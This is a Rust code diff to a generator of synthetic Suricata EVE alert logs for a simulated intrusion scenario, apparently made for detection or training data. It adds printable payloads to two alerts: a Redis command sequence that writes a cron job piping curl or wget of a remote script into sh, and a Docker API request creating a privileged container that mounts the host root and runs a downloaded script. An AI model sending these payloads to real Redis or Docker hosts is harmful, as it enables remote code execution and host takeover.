@@ -11,6 +11,8 @@ struct Alert<'a> {
     to: (&'a str, i64),
     signature: (i64, &'a str, &'a str),
     http: Option<(&'a str, &'a str)>,
+    /// What was sent, as far as it can be printed.
+    payload: Option<String>,
 }
 
 pub(super) fn eve(story: &Story) -> String {
@@ -52,6 +54,7 @@ fn alerts(story: &Story) -> Vec<(i64, String)> {
             to: ("115.159.189.241", 48_080),
             signature: (2_030_001, "ET MALWARE ELF/Xorddos CnC Checkin", "A Network Trojan was detected"),
             http: None,
+            payload: None,
         }));
     }
     let pool = story.value(REDIS, 0, "pool");
@@ -63,6 +66,7 @@ fn alerts(story: &Story) -> Vec<(i64, String)> {
             to: (&address, port),
             signature: (2_024_792, "ET POLICY Cryptocurrency Miner Checkin", "Potential Corporate Privacy Violation"),
             http: None,
+            payload: None,
         }));
     }
     for (gang, wave, host) in [(REDIS, 0, "redis-01"), (DOCKER, 0, "docker-01")] {
@@ -80,6 +84,7 @@ fn alerts(story: &Story) -> Vec<(i64, String)> {
                     "Misc Attack",
                 ),
                 http: Some((server.split(':').next().unwrap_or(server), script)),
+                payload: None,
             }));
         }
     }
@@ -90,18 +95,32 @@ fn alerts(story: &Story) -> Vec<(i64, String)> {
         to: (story.address("backup-01"), 22),
         signature: (2_001_219, "ET SCAN Potential SSH Scan", "Attempted Information Leak"),
         http: None,
+        payload: None,
     }));
-    let redis = story.entry(REDIS, "redis-02");
+    let script = story.value(REDIS, 0, "script");
     rows.push(alert(&Alert {
-        time: redis - 21_000,
+        time: story.entry(REDIS, "redis-02") - 21_000,
         from: ("203.0.113.102", 44_410),
         to: (story.address("redis-02"), 6379),
-        signature: (
-            2_024_912,
-            "ET EXPLOIT Redis CONFIG SET dir to a cron folder",
-            "Attempted Administrator Privilege Gain",
-        ),
+        signature: (2_024_912, "ET EXPLOIT Redis CONFIG SET dir to a cron folder", "Attempted Administrator Privilege Gain"),
         http: None,
+        payload: Some(format!(
+            "*4..$6..config..$3..set..$3..dir..$15../var/spool/cron..*4..$6..config..$3..set..$10..dbfilename..$4..root..\
+             *3..$3..set..$1..x..$99......*/15 * * * * (curl -fsSL {script}||wget -q -O- {script})|sh......*1..$4..save.."
+        )),
+    }));
+    let script = story.value(DOCKER, 0, "script");
+    rows.push(alert(&Alert {
+        time: story.entry(DOCKER, "docker-01") - 900,
+        from: ("203.0.113.118", 40_231),
+        to: (story.address("docker-01"), 2375),
+        signature: (2_027_712, "ET EXPLOIT Docker API container create with the host's root", "Attempted Administrator Privilege Gain"),
+        http: None,
+        payload: Some(format!(
+            "POST /v1.24/containers/create HTTP/1.1..Host: 10.20.0.1:2375..User-Agent: Go-http-client/1.1..Content-Type: \
+             application/json....{{\"Image\":\"alpine\",\"Cmd\":[\"chroot\",\"/mnt\",\"/bin/sh\",\"-c\",\"curl -s {script} | bash; \
+             wget -q -O - {script} | bash\"],\"HostConfig\":{{\"Binds\":[\"/:/mnt\"],\"Privileged\":true,\"NetworkMode\":\"host\"}}}}"
+        )),
     }));
     if let Some((time, from, to)) = windows::attacks().into_iter().find(|it| it.2 == "192.168.0.4") {
         rows.push(alert(&Alert {
@@ -114,6 +133,7 @@ fn alerts(story: &Story) -> Vec<(i64, String)> {
                 "Attempted Administrator Privilege Gain",
             ),
             http: None,
+            payload: None,
         }));
     }
     rows
@@ -144,6 +164,7 @@ fn alert(it: &Alert<'_>) -> (i64, String) {
     });
     let mut own = vec![("alert", Value::Json(&rule))];
     own.extend(http.as_ref().map(|it| ("http", Value::Json(it))));
+    own.extend(it.payload.as_ref().map(|it| ("payload_printable", it.into())));
     (it.time, event("alert", it.time, it.from, it.to, own))
 }
 
